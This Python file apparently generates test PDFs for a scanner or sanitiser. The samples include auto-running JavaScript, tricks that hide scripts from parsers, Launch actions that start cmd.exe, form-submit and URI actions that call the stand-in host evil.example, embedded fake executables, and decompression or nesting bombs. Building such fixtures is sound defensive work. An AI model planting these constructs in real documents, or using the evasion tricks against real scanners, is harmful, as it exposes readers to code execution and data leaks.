"""PDFs that act by themselves, hide something, or are built to hurt whoever reads them."""

import io

import pikepdf

import raw_pdf

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
FILE = raw_pdf.stream(b"MZ not really a program", b"/Type /EmbeddedFile ")


def make(corpus):
    scripts(corpus)
    actions(corpus)
    files(corpus)
    encrypted(corpus)
    damaged(corpus)
    bombs(corpus)


def scripts(corpus):
    add = corpus.bad
    simple, packed, objects = raw_pdf.simple, raw_pdf.packed, raw_pdf.objects
    add("script-on-open.pdf", simple(b"/OpenAction %s " % SCRIPT), "JavaScript when the file opens")
    add("script-on-page.pdf", simple(page=b"/AA << /O 6 0 R >> ", extra={6: SCRIPT}), "JavaScript when a page opens")
    names = b"<< /Names [(run) 7 0 R] >>"
    add("script-by-name.pdf", simple(b"/Names << /JavaScript 6 0 R >> ", extra={6: names, 7: SCRIPT}),
        "JavaScript in the tree of names")
    add("script-packed.pdf", packed(objects(b"/OpenAction 6 0 R ", extra={6: SCRIPT}), [1, 2, 3, 6]),
        "JavaScript in an object stream")
    add("script-packed-plain.pdf", packed(objects(b"/OpenAction 6 0 R ", extra={6: SCRIPT}), [1, 2, 6], pack=False),
        "JavaScript in an object stream without a filter")
    add("script-packed-untyped.pdf",
        packed(objects(b"/OpenAction 6 0 R ", extra={6: SCRIPT}), [1, 2, 6]).replace(b"/Type /ObjStm ", b""),
        "the object stream does not say that it is one")
    add("script-spelled.pdf", simple(b"/OpenAction << /S /J#61vaScript /J#53 (x) >> "), "JavaScript in escaped letters")
    add("script-kind-elsewhere.pdf", simple(b"/OpenAction << /S 6 0 R /J 7 0 R >> ", extra={6: b"/JavaScript"}),
        "the action's kind is an object of its own")
    add("script-in-comments.pdf", simple(b"/OpenAction << /S%x\n/JavaScript%y\n/JS (x) >> "), "comments between the words")
    add("script-in-field.pdf", simple(b"/AcroForm << /Fields [6 0 R] >> ", extra={
        6: b"<< /FT /Tx /T (a) /Subtype /Widget /Rect [0 0 9 9] /AA << /K << /S /JavaScript /JS 7 0 R >> >> >>",
        7: raw_pdf.stream(b"app.alert(1)")}), "JavaScript in a form field")
    add("script-not-listed.pdf", hidden_from_table(), "the table hides the object; readers that scan find it")
    add("script-inside-stream.pdf", inside_stream(), "the table points into the data of a picture")
    add("script-stray-bracket.pdf", simple(b"/Lang ] /OpenAction %s " % SCRIPT), "a stray bracket before the action")
    add("script-odd-filter.pdf",
        packed(objects(b"/OpenAction 6 0 R ", extra={6: SCRIPT}), [1, 2, 6], pack=False)
        .replace(b"/Type /ObjStm", b"/Filter /LZWDecode /Type /ObjStm"), "an object stream that we do not unpack")
    add("script-older-revision.pdf", older_revision(), "JavaScript that a later change replaced")


def hidden_from_table():
    found = raw_pdf.objects()
    data, offsets = raw_pdf.body({**found, 6: b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % SCRIPT})
    del offsets[6]
    xref, size = raw_pdf.table(offsets)
    return data + xref + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(data))


def inside_stream():
    inner = b"7 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n"
    found = raw_pdf.objects(b"/OpenAction 7 0 R ", extra={6: raw_pdf.stream(inner, b"/Type /XObject ", pack=False)})
    data, offsets = raw_pdf.body(found)
    offsets[7] = data.index(inner)
    xref, size = raw_pdf.table(offsets)
    return data + xref + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(data))


def older_revision():
    first = raw_pdf.simple(b"/OpenAction %s " % SCRIPT)
    previous = first.rindex(b"xref\n0 ")
    update = b"1 0 obj\n%s\nendobj\n" % raw_pdf.objects()[1]
    return first + update + b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(first), previous, len(first) + len(update))


def actions(corpus):
    for name, action, why in [
        ("launch", b"<< /S /Launch /F (cmd.exe) >>", "starts a program"),
        ("submit-form", b"<< /S /SubmitForm /F (https://evil.example) >>", "sends a form"),
        ("import-data", b"<< /S /ImportData /F (\\\\\\\\evil.example\\\\x) >>", "reads data from elsewhere"),
        ("go-to-remote", b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit] >>", "opens a document elsewhere"),
        ("go-to-embedded", b"<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>", "opens a document inside"),
        ("rendition", b"<< /S /Rendition /OP 0 >>", "plays a film"),
        ("address-on-open", b"<< /S /URI /URI (https://evil.example) >>", "calls an address when the file opens"),
    ]:
        corpus.bad(f"{name}.pdf", raw_pdf.simple(b"/OpenAction %s " % action), why)
    address = b"<< /S /URI /URI (https://evil.example) >>"
    corpus.bad("address-on-page.pdf", raw_pdf.simple(page=b"/AA << /O 6 0 R >> ", extra={6: address}),
               "calls an address when a page opens")
    corpus.bad("launch-on-click.pdf", raw_pdf.simple(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
               b"/A << /S /Launch /Win << /F (cmd.exe) >> >> >>] "), "starts a program on a click")


def files(corpus):
    add, simple = corpus.bad, raw_pdf.simple
    specification = b"<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>"
    add("embedded-file.pdf", simple(b"/Names << /EmbeddedFiles << /Names [(x.exe) 7 0 R] >> >> ",
        extra={6: FILE, 7: specification}), "a file inside")
    add("portfolio.pdf", simple(b"/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(x) 7 0 R] >> >> ",
        extra={6: FILE, 7: specification}), "a portfolio of files")
    add("associated-file.pdf", simple(b"/AF [7 0 R] ", extra={6: raw_pdf.stream(b"<x/>"), 7: specification}),
        "a file inside that has no type and no name")
    add("attachment.pdf", simple(page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>] ",
        extra={6: FILE, 7: specification}), "a file pinned to the page")
    add("rich-media.pdf", simple(page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>] "), "rich media")
    add("film.pdf", simple(page=b"/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (x) >> >>] "), "a film")
    add("xfa.pdf", simple(b"/AcroForm << /Fields [] /XFA [(template) 6 0 R] >> ",
        extra={6: raw_pdf.stream(b"<template><script>1</script></template>")}), "an XFA form")


def encrypted(corpus):
    for name, user, level, why in [
        ("encrypted.pdf", "secret", 6, "needs a password"),
        ("encrypted-empty-password.pdf", "", 4, "encrypted, though it opens without a password"),
    ]:
        data = io.BytesIO()
        with pikepdf.open(io.BytesIO(raw_pdf.simple())) as pdf:
            pdf.save(data, encryption=pikepdf.Encryption(user=user, owner="owner", R=level))
        corpus.bad(name, data.getvalue(), why)


def damaged(corpus):
    add, whole = corpus.bad, raw_pdf.simple()
    add("truncated.pdf", whole[: len(whole) // 2], "the second half is missing")
    add("truncated-linearized.pdf", corpus.read("good/linearized.pdf")[:-400], "the end is missing")
    add("no-pages.pdf", raw_pdf.write(raw_pdf.objects(kids=b"")), "no pages")
    add("no-catalog.pdf", whole.replace(b"/Type /Catalog", b"/Type /Catalogs"), "nothing says where the pages are")
    add("only-a-head.pdf", b"%PDF-1.7\nMira Kestrel\n%%EOF\n", "a head and an end around text")


def bombs(corpus):
    add = corpus.bad
    zeros = raw_pdf.stream(b"6 0 " + b" " * (17 << 20), b"/Type /ObjStm /N 1 /First 4 ")
    add("bomb-object-stream.pdf", raw_pdf.simple(extra={6: zeros}), "an object stream of 17 MB")
    piece = raw_pdf.stream(b"6 0 " + b" " * (3 << 20), b"/Type /ObjStm /N 1 /First 4 ")
    add("bomb-object-streams.pdf", raw_pdf.simple(extra={number: piece for number in range(6, 12)}),
        "six object streams of 3 MB each")
    index = b"".join(b"%d 0 " % number for number in range(6, 1_000))
    same = raw_pdf.stream(index + b"[" + b"0 " * 50_000 + b"]", b"/Type /ObjStm /N 994 /First %d " % len(index))
    add("bomb-same-object.pdf", raw_pdf.simple(extra={6: same}), "a thousand objects at the same place")
    add("deep-array.pdf", raw_pdf.simple(extra={6: b"[" * 20_000 + b"]" * 20_000}), "arrays nested twenty thousand deep")
    add("deep-dictionary.pdf", raw_pdf.simple(b"/X " + b"<</X" * 5_000 + b" 1 " + b">>" * 5_000),
        "dictionaries nested five thousand deep")
    add("deep-packed.pdf", raw_pdf.packed(raw_pdf.objects(extra={6: b"[" * 500_000}), [1, 6]),
        "arrays nested half a million deep in an object stream")
    loop = raw_pdf.write(raw_pdf.objects(kids=b"2 0 R"))
    add("pages-loop.pdf", loop.replace(b"/Type /Page ", b"/Type /Pagf "), "the page tree is its own branch")
    unclosed = b"6 0 obj ( " * 3_000
    add("unclosed-text.pdf", raw_pdf.simple().replace(b"\n1 0 obj", b"\n" + unclosed + b"\n1 0 obj").replace(
        b"endobj\nxref", b"endobj\n" + b"x" * 9 + b"\nxref"), "thousands of texts that never end")
